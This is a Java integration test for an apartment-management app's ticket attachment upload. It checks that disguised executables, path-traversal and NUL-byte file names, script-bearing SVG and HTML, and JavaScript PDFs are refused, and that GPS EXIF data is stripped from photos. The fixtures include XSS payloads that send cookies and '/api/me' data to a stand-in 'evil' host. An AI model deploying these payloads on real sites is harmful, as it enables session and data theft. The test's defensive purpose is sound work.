package org.domus.itests;

import static org.junit.Assert.assertArrayEquals;
import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNotNull;
import static org.junit.Assert.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;
import javax.inject.Inject;
import org.domus.core.registry.RegistryService;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.Configuration;
import org.ops4j.pax.exam.Option;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

/**
 * Ticket attachments over REST in the running distribution: every refused file (one byte over the limit, an
 * executable or HTML page named .jpg, a PNG named .jpg, path tricks and NUL in the name, SVG with a script
 * named .svg or .png, a PDF with JavaScript) is a 422 problem with a clear English detail, and no TICKETS_ row
 * changes; a phone photo with a GPS position is stored re-encoded, and what comes back carries no EXIF at all.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class TicketsUploadIT extends TicketsTestSupport {

    /** The attachment limit for these tests: 1 MiB, so that the message reads "at most 1 MB". */
    private static final int LIMIT = 1024 * 1024;

    @Inject
    protected RegistryService registry;

    @Configuration
    public Option[] config() {
        return distribution();
    }

    /** Resident A's ticket, with the 1 MiB limit set before the module starts. */
    private long ticket(RegistryFixture world) throws Exception {
        ticketsSettings(Map.of("uploads.maxBytes", (long) LIMIT));
        installTickets(world.residentA);
        String office = login("office", org.domus.core.Role.MANAGER).token();
        long water = category(office, world.organisation.id(), "WATER");
        return submit(world.residentA, unitTicket(world.unitA.id(), water, "Prasklá dlaždice v koupelně"))
                .path("id")
                .asLong();
    }

    @Test
    public void refusedFilesAreClearProblemsAndNothingIsStored() throws Exception {
        RegistryFixture world = new RegistryFixture(registry, accounts, tokens, totp());
        long ticket = ticket(world);
        String files = "/tickets/" + ticket + "/attachments";
        String a = world.residentA;

        // exactly the limit is taken (a JPEG with trailing bytes after its end marker) ...
        byte[] atLimit = padded(jpeg(640, 480), LIMIT);
        JsonNode taken = expect(201, upload(files, a, "dlazdice.jpg", atLimit, "image/jpeg"));
        assertEquals("image/jpeg", taken.path("mediaType").asText());
        assertEquals(1, expect(200, call("GET", files, a, null)).size());

        String svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
                + "<script>fetch('/api/me').then(r => r.text()).then(t => new Image().src='//evil/?'+t)</script>"
                + "<rect width=\"10\" height=\"10\"/></svg>";
        byte[] exe = new byte[4096];
        System.arraycopy(new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0}, 0, exe, 0, 10);
        System.arraycopy("This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII), 0, exe, 78, 39);
        byte[] elf = new byte[2048];
        System.arraycopy(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        String html = "<!DOCTYPE html><html><body><script>document.location='//evil/?'+document.cookie</script>"
                + "</body></html>";
        List<Refused> refused = List.of(
                new Refused(
                        "one byte over the limit",
                        "dlazdice.jpg",
                        padded(jpeg(640, 480), LIMIT + 1),
                        "image/jpeg",
                        "upload.too-large",
                        "The file is too large: at most 1 MB."),
                new Refused(
                        "a Windows executable named .jpg",
                        "foto.jpg",
                        exe,
                        "image/jpeg",
                        "upload.type-refused",
                        "This kind of file cannot be uploaded here."),
                new Refused(
                        "a Linux executable named .jpg",
                        "foto.jpg",
                        elf,
                        "image/jpeg",
                        "upload.type-refused",
                        "This kind of file cannot be uploaded here."),
                new Refused(
                        "an HTML page named .jpg",
                        "foto.jpg",
                        html.getBytes(StandardCharsets.UTF_8),
                        "image/jpeg",
                        "upload.type-refused",
                        "This kind of file cannot be uploaded here."),
                new Refused(
                        "a PNG named .jpg",
                        "foto.jpg",
                        png(64, 64),
                        "image/jpeg",
                        "upload.type-mismatch",
                        "The file name says another type than the file contains."),
                new Refused(
                        "../ in the name",
                        "../../x.jpg",
                        jpeg(64, 64),
                        "image/jpeg",
                        "upload.name-invalid",
                        "The file name is not allowed"),
                new Refused(
                        "..\\ in the name",
                        "..\\x.png",
                        png(64, 64),
                        "image/png",
                        "upload.name-invalid",
                        "The file name is not allowed"),
                new Refused(
                        "an absolute path",
                        "/etc/passwd.jpg",
                        jpeg(64, 64),
                        "image/jpeg",
                        "upload.name-invalid",
                        "The file name is not allowed"),
                new Refused(
                        "NUL in the name",
                        "x.php\u0000.jpg",
                        jpeg(64, 64),
                        "image/jpeg",
                        "upload.name-invalid",
                        "The file name is not allowed"),
                new Refused(
                        "SVG with a script named .svg",
                        "plan.svg",
                        svg.getBytes(StandardCharsets.UTF_8),
                        "image/svg+xml",
                        "upload.svg-refused",
                        "SVG and other XML images cannot be uploaded"),
                new Refused(
                        "SVG with a script named .png",
                        "plan.png",
                        svg.getBytes(StandardCharsets.UTF_8),
                        "image/png",
                        "upload.svg-refused",
                        "SVG and other XML images cannot be uploaded"),
                new Refused(
                        "a PDF that runs JavaScript",
                        "navod.pdf",
                        pdfWithJavaScript(),
                        "application/pdf",
                        "upload.damaged",
                        "contains active content"),
                new Refused(
                        "an empty file", "foto.jpg", new byte[0], "image/jpeg", "upload.empty", "The file is empty."));

        String before = ticketsTables();
        long rows = count("TICKETS_ATTACHMENT", "TICKET_ID = " + ticket);
        for (Refused r : refused) {
            HttpResponse<String> answer = upload(files, a, r.name(), r.content(), r.type());
            try {
                expectProblem(answer, 422, r.key(), r.detail());
            } catch (AssertionError e) {
                throw new AssertionError(r.what() + ": " + e.getMessage(), e);
            }
            assertEquals(r.what(), before, ticketsTables());
        }
        assertEquals(rows, count("TICKETS_ATTACHMENT", "TICKET_ID = " + ticket));
        assertEquals(1, expect(200, call("GET", files, a, null)).size());
        // the same refusals for staff adding an internal file
        String office = login("office2", org.domus.core.Role.MANAGER).token();
        expectProblem(
                upload(files + "?internal=true", office, "plan.png", svg.getBytes(StandardCharsets.UTF_8), "image/png"),
                422,
                "upload.svg-refused",
                null);
        assertEquals(before, ticketsTables());

        // what is fine is taken: a real PDF and a PNG, their names cleaned
        JsonNode pdf = expect(201, upload(files, a, "Návod k obsluze.pdf", pdf(), "application/pdf"));
        assertEquals("application/pdf", pdf.path("mediaType").asText());
        assertEquals("Návod k obsluze.pdf", pdf.path("name").asText());
        JsonNode plan = expect(201, upload(files, a, "plán bytu (2).PNG", png(120, 80), "image/png"));
        assertEquals("image/png", plan.path("mediaType").asText());
        assertEquals("plán bytu (2).png", plan.path("name").asText());
        assertEquals(3, expect(200, call("GET", files, a, null)).size());
        assertEquals(rows + 2, count("TICKETS_ATTACHMENT", "TICKET_ID = " + ticket));
        // a PDF is served as a download, never rendered in the page
        HttpResponse<byte[]> served = download(files + "/" + pdf.path("id").asLong(), a);
        assertEquals(200, served.statusCode());
        assertTrue(
                served.headers().firstValue("Content-Disposition").orElse(""),
                served.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment"));
        assertEquals(
                "nosniff", served.headers().firstValue("X-Content-Type-Options").orElse(""));
    }

    @Test
    public void aPhotoWithAGpsPositionIsStoredReencodedWithoutIt() throws Exception {
        RegistryFixture world = new RegistryFixture(registry, accounts, tokens, totp());
        long ticket = ticket(world);
        byte[] original = jpegWithGps(800, 600);
        // the file really carries the position: an EXIF segment with the GPS IFD, and it is a valid JPEG
        assertTrue(jpegSegments(original).toString(), jpegSegments(original).contains("E1:Exif.."));
        assertNotNull(ImageIO.read(new ByteArrayInputStream(original)));
        byte[] gpsLatitude = ByteBuffer.allocate(24)
                .putInt(50)
                .putInt(1)
                .putInt(5)
                .putInt(1)
                .putInt(0)
                .putInt(1)
                .array();
        assertTrue(contains(original, gpsLatitude));

        JsonNode stored = expect(
                201,
                upload("/tickets/" + ticket + "/attachments", world.residentA, "IMG_0001.JPG", original, "image/jpeg"));
        assertEquals("image/jpeg", stored.path("mediaType").asText());
        assertEquals("IMG_0001.jpg", stored.path("name").asText());
        HttpResponse<byte[]> back = download(
                "/tickets/" + ticket + "/attachments/" + stored.path("id").asLong(), world.residentA);
        assertEquals(200, back.statusCode());
        assertEquals("image/jpeg", back.headers().firstValue("Content-Type").orElse(""));
        byte[] served = back.body();
        assertEquals(stored.path("size").asLong(), served.length);
        assertFalse("re-encoded, not the bytes sent", Arrays.equals(original, served));
        List<String> segments = jpegSegments(served);
        assertFalse(segments.toString(), segments.stream().anyMatch(s -> s.startsWith("E1:")));
        assertFalse("no GPS rational left", contains(served, gpsLatitude));
        assertFalse("no EXIF left", contains(served, "Exif\0\0".getBytes(StandardCharsets.ISO_8859_1)));
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(served));
        assertEquals(800, image.getWidth());
        assertEquals(600, image.getHeight());
        // the stored bytes are the served ones
        assertArrayEquals(
                served,
                download(
                                "/tickets/" + ticket + "/attachments/"
                                        + stored.path("id").asLong(),
                                world.residentA)
                        .body());
    }

    private record Refused(String what, String name, byte[] content, String type, String key, String detail) {}

    /** The file followed by zero bytes up to {@code size} (a JPEG decoder stops at the end marker). */
    private static byte[] padded(byte[] file, int size) {
        assertTrue(file.length < size);
        return Arrays.copyOf(file, size);
    }
}
